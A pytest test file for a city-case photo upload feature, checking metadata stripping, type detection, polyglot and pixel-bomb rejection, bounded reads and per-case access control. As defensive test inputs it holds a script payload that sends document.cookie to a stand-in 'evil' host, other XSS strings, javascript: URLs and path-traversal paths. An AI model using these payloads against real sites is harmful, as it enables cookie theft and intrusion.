"""Case photos, written as the attacks of the security review: the type comes from the bytes,
metadata and polyglots do not survive, sizes are bounded before reading, only our own uploads
are accepted as photo URLs, and a photo is served only to those who may see its case."""

from __future__ import annotations

import asyncio
import datetime as dt
import io
import struct
import zlib
from pathlib import Path

import pytest
from PIL import Image
from starlette.requests import Request

from citygrowth.errors import CityGrowthError, ValidationFailed
from citygrowth.governance import media
from citygrowth.governance.lifecycle import transition
from citygrowth.governance.models import CaseMedia
from citygrowth.settings import Settings
from tests.governance.conftest import POS_A, POS_B, Web, World, image_bytes, upload

LIMITS = media.Limits(max_bytes=1024 * 1024, max_side=640)


def _png_header(width: int, height: int) -> bytes:
    """A PNG that declares ``width`` × ``height`` pixels and carries almost no data."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(
            ">I", zlib.crc32(kind + data))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0"))


def _jpeg_with_gps() -> bytes:
    im = Image.new("RGB", (1600, 1200), (10, 120, 200))
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0112] = 6  # orientation: rotate 90° clockwise to view
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (36.0, 5.0, 30.0)
    gps[3], gps[4] = "E", (120.0, 22.0, 10.0)
    buf = io.BytesIO()
    im.save(buf, "JPEG", exif=exif, comment=b"secret comment")
    return buf.getvalue()


def test_reencoding_strips_metadata_turns_upright_and_scales() -> None:
    source = _jpeg_with_gps()
    assert b"PhoneMaker" in source
    out = media.encode_photo(source, LIMITS)
    im = Image.open(io.BytesIO(out.full))
    assert im.format == "JPEG" and (im.width, im.height) == (480, 640)  # upright, ≤ 640
    assert not im.getexif() and b"PhoneMaker" not in out.full
    assert b"secret comment" not in out.full and "comment" not in im.info
    thumb = Image.open(io.BytesIO(out.thumb))
    assert max(thumb.size) == media.THUMB_SIDE


@pytest.mark.parametrize("fmt,mode,save", [("PNG", "RGBA", {}), ("WEBP", "RGB", {}),
                                           ("PNG", "P", {"transparency": 0}),
                                           ("PNG", "I;16", {}), ("JPEG", "CMYK", {})])
def test_accepted_kinds_become_plain_rgb_jpeg(fmt: str, mode: str,
                                              save: dict[str, object]) -> None:
    out = media.encode_photo(image_bytes(fmt, (30, 20), mode, **save), LIMITS)
    im = Image.open(io.BytesIO(out.full))
    assert (im.format, im.mode, im.size) == ("JPEG", "RGB", (30, 20))


def test_type_comes_from_the_bytes_not_the_name() -> None:
    html = b"<html><script>alert(document.cookie)</script></html>"
    for data in (html, image_bytes("GIF"), image_bytes("BMP"), b"%PDF-1.4 not an image"):
        with pytest.raises(ValidationFailed) as err:
            media.encode_photo(data, LIMITS, "evil.png")
        assert err.value.problems[0].params == {"name": "evil.png"}
    with pytest.raises(ValidationFailed) as err:  # a JPEG cut short
        media.encode_photo(image_bytes("JPEG", (400, 300))[:300], LIMITS)
    assert "could not be read" in err.value.problems[0].message


def test_a_polyglot_keeps_only_its_pixels() -> None:
    payload = b"<script>fetch('//evil/'+document.cookie)</script>"
    polyglot = image_bytes("PNG", (8, 8)) + payload
    out = media.encode_photo(polyglot, LIMITS)
    assert payload not in out.full and b"<script" not in out.full + out.thumb


def test_pixel_bombs_and_size_are_refused() -> None:
    for w, h in ((8000, 7000), (30000, 30000)):  # 56 MP; 900 MP (Pillow's own bomb error)
        with pytest.raises(ValidationFailed) as err:
            media.encode_photo(_png_header(w, h), LIMITS)
        assert "too many pixels" in err.value.problems[0].message
    with pytest.raises(CityGrowthError) as big:
        media.encode_photo(b"\xff" * (LIMITS.max_bytes + 1), LIMITS)
    assert big.value.status == 413


def _request(headers: dict[str, str], chunks: list[bytes]) -> tuple[Request, list[int]]:
    reads: list[int] = []

    async def receive() -> dict[str, object]:
        reads.append(1)
        body = chunks.pop(0) if chunks else b""
        return {"type": "http.request", "body": body, "more_body": bool(chunks)}
    scope = {"type": "http", "method": "POST", "path": "/", "headers": [
        (k.encode(), v.encode()) for k, v in headers.items()]}
    return Request(scope, receive), reads


def test_bodies_are_bounded_before_reading() -> None:
    req, reads = _request({"content-length": str(300 * 1024 * 1024)}, [b"x"])
    with pytest.raises(CityGrowthError) as err:
        asyncio.run(media.read_limited(req, 1000, LIMITS))
    assert err.value.status == 413 and reads == []  # refused without reading a byte
    req, reads = _request({}, [b"x" * 600, b"x" * 600, b"x" * 600])  # chunked, no length
    with pytest.raises(CityGrowthError):
        asyncio.run(media.read_limited(req, 1000, LIMITS))
    assert len(reads) == 2  # stopped as soon as the limit was passed
    req, _ = _request({"content-length": "5"}, [b"hello"])
    assert asyncio.run(media.read_limited(req, 1000, LIMITS)) == b"hello"


def test_upload_api_checks_and_answers_our_reference(web: Web) -> None:
    c = web.client
    html = c.post("/api/cases/photos", headers=web.h("worker_a"),
                  files={"photo": ("x.png", b"<html><script>alert(1)</script>", "image/png")})
    assert html.status_code == 422 and html.json()["errors"][0]["field"] == "photo"
    raw = c.post("/api/cases/photos", content=image_bytes("WEBP"),
                 headers={**web.h("worker_a"), "Content-Type": "image/webp"})
    assert raw.status_code == 201
    assert media.REF.match(raw.json()["url"]) and raw.json()["thumbnail"].endswith(".thumb.jpg")
    assert c.post("/api/cases/photos", files={"photo": ("p.png", image_bytes())}
                  ).status_code == 401  # anonymous: the resident form takes photos itself
    assert c.post("/api/cases/photos", headers=web.h("analyst"),
                  files={"photo": ("p.png", image_bytes())}).status_code == 403


def test_served_only_to_readers_of_the_case(web: Web) -> None:
    c = web.client
    ref = upload(web, "worker_a")
    thumb = media.thumb_ref(ref)
    mine = c.get(ref, headers=web.h("worker_a"))
    assert mine.status_code == 200 and mine.headers["content-type"] == "image/jpeg"
    assert mine.headers["x-content-type-options"] == "nosniff"
    assert "sandbox" in mine.headers["content-security-policy"]
    for who in ("worker_b", "cmd_a", "admin"):  # an unused upload is its uploader's only
        assert c.get(ref, headers=web.h(who)).status_code == 404
    assert c.get(ref).status_code == 404
    r = c.post("/api/cases", headers=web.h("worker_a"), json={
        "category_code": "E0101", "lat": POS_A[1], "lon": POS_A[0], "photos": [ref]})
    assert r.status_code == 201, r.text
    for who, status in (("cmd_a", 200), ("admin", 200), ("cmd_b", 404), ("urban", 404),
                        ("worker_b", 404)):
        assert c.get(thumb, headers=web.h(who)).status_code == status, who
    assert c.get(thumb).status_code == 404
    for bad in ("../../citygrowth.db", "x.jpg", ref.rsplit("/", 1)[1] + ".png"):
        assert c.get(f"/media/cases/{bad}", headers=web.h("admin")).status_code == 404


def test_only_our_own_unused_uploads_are_accepted(web: Web) -> None:
    c = web.client
    body = {"category_code": "E0101", "lat": POS_A[1], "lon": POS_A[0]}
    for bad in ("https://tracker.example/track.gif", "javascript:alert(1)",
                "//evil.example/media/cases/" + "a" * 32 + ".jpg", "/media/cases/../x.jpg",
                "data:image/png;base64,AAAA"):
        r = c.post("/api/cases", headers=web.h("worker_a"), json={**body, "photos": [bad]})
        assert r.status_code == 422, (bad, r.text)
        err = r.json()["errors"][0]
        assert err["field"] == "photos.0" and "/api/cases/photos" in err["message"]
    theirs = upload(web, "worker_b")
    r = c.post("/api/cases", headers=web.h("worker_a"), json={**body, "photos": [theirs]})
    assert r.status_code == 422 and r.json()["errors"][0]["value"] == theirs
    mine = upload(web, "worker_a")
    absolute = "https://platform.example/citygrowth" + mine  # our URL under a mount prefix
    first = c.post("/api/cases", headers=web.h("worker_a"), json={**body, "photos": [absolute]})
    assert first.status_code == 201
    case = c.get(f"/api/cases/{first.json()['id']}", headers=web.h("admin")).json()["case"]
    assert case["photos"] == [mine]
    again = c.post("/api/cases", headers=web.h("worker_a"),
                   json={**body, "photos": [mine], "description": "another"})
    assert again.status_code == 422  # one photo, one case


def test_after_photo_required_where_the_category_says(world: World, settings: Settings) -> None:
    s, a = world.session, world.actors
    light = world.report(pos=POS_A, category="C0105")  # 路灯: components need an after-photo
    for action, who in (("register", "cmd_a"), ("dispatch", "cmd_a"), ("accept", "urban")):
        transition(s, a[who], light, action, runtime=world.runtime)
    with pytest.raises(ValidationFailed) as err:
        transition(s, a["urban"], light, "handle", note="换了灯泡", runtime=world.runtime)
    assert err.value.problems[0].field == "photos"
    after = media.store_photo(s, settings.data_dir, media.encode_photo(image_bytes(), LIMITS),
                              media.owner_of(a["urban"]))
    event = transition(s, a["urban"], light, "handle", note="换了灯泡", runtime=world.runtime,
                       photos=[media.ref_of(after.id)])
    assert event.photos == [media.ref_of(after.id)]
    row = s.get(CaseMedia, after.id)
    assert row is not None and (row.case_id, row.stage) == (light.id, "handle")
    garbage = world.report(pos=POS_B, category="E0101", actor=world.actors["worker_b"])
    for action, who in (("register", "cmd_b"), ("dispatch", "cmd_b"), ("accept", "urban")):
        transition(s, a[who], garbage, action, runtime=world.runtime)
    transition(s, a["urban"], garbage, "handle", note="已清运",  # events: not required
               runtime=world.runtime)


def test_unused_uploads_are_cleaned_up(world: World, tmp_path: Path) -> None:
    s = world.session
    photo = media.encode_photo(image_bytes(), LIMITS)
    old = media.store_photo(s, tmp_path, photo, "user:1")
    kept = media.store_photo(s, tmp_path, photo, "user:1")
    used = media.store_photo(s, tmp_path, photo, "user:1")
    case = world.report()
    media.attach(s, case.id, [media.ref_of(used.id)], "report")
    old.uploaded_at = dt.datetime.now(dt.UTC) - dt.timedelta(days=2)
    used.uploaded_at = old.uploaded_at
    stray = media.media_folder(tmp_path) / ("f" * 32 + ".jpg")
    stray.write_bytes(b"x")
    now = dt.datetime.now(dt.UTC) + dt.timedelta(hours=2)  # the stray file is an hour old
    assert media.remove_orphans(s, tmp_path, now=now) == 2
    assert s.get(CaseMedia, old.id) is None and s.get(CaseMedia, kept.id) is not None
    names = {p.name for p in media.media_folder(tmp_path).iterdir()}
    assert names == {f"{m.id}{x}" for m in (kept, used) for x in (".jpg", ".thumb.jpg")}
